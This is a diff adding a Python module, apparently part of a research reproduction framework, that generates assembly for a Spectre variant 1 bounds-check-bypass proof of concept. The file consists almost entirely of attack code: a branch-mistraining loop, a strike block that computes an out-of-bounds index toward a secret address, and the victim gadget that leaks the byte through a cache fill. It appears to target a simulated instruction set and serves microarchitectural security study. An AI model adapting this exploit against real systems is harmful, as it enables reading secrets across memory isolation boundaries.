@@ -1,0 +1,81 @@
+"""Spectre variant 1: conditional bounds-check bypass (Kocher et al.).
+
+The victim routine is the canonical PoC::
+
+    if (x < array1_size)
+        y = probe[array1[x] * stride];
+
+The attacker trains the bounds-check branch with in-bounds ``x`` and
+then strikes with ``x = &secret - &array1``: the branch predicts the
+in-bounds path, the wrong-path load reads the secret byte and touches a
+secret-dependent probe line, the squash erases everything *except* the
+cache fill.
+"""
+
+from repro.attack.covert import emit_main_skeleton
+from repro.kernel.loader import build_binary
+
+VARIANT_NAME = "spectre_v1"
+
+
+def source(config):
+    prefix = "sv1"
+    train_block = f"""
+    ; ---- mistrain the bounds check with in-bounds indices ----
+    ; (counter lives in a2: the victim clobbers t0-t3)
+    li   a2, {config.training_rounds}
+{prefix}_train:
+    beq  a2, zero, {prefix}_train_done
+    andi a0, a2, 7
+    call {prefix}_victim
+    addi a2, a2, -1
+    jmp  {prefix}_train
+{prefix}_train_done:
+"""
+    if config.flush_method == "clflush":
+        size_flush = f"""
+    la   t1, {prefix}_array1_size
+    clflush 0(t1)
+    mfence"""
+    else:
+        # Kocher-fidelity flush of the bound; skipped in evict mode
+        # (the misprediction needs no slow bounds load in this model).
+        size_flush = ""
+    strike_block = f"""
+    ; ---- strike: x = (&secret + byte_index) - &array1 ----{size_flush}
+    li   a0, {config.secret_address}
+    add  a0, a0, s0
+    la   t1, {prefix}_array1
+    sub  a0, a0, t1
+    call {prefix}_victim
+"""
+    extra_text = f"""
+; ---- victim: if (x < array1_size) y = probe[array1[x] * stride] ----
+{prefix}_victim:
+    la   t0, {prefix}_array1_size
+    lw   t0, 0(t0)
+    bgeu a0, t0, {prefix}_victim_ret   ; the mistrained bounds check
+    la   t1, {prefix}_array1
+    add  t1, t1, a0
+    lb   t2, 0(t1)                     ; transiently reads the secret
+    muli t2, t2, {config.stride}
+    la   t3, {prefix}_probe
+    add  t3, t3, t2
+    lw   t3, 0(t3)                     ; secret-dependent cache fill
+{prefix}_victim_ret:
+    ret
+
+.data
+{prefix}_array1:
+    .byte 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15
+{prefix}_array1_size:
+    .word 16
+"""
+    return emit_main_skeleton(config, prefix, train_block, strike_block,
+                              extra_text)
+
+
+def build(config):
+    """Assemble the variant-1 attack binary (libc linked)."""
+    tag = "cr" if config.perturb is not None else "plain"
+    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
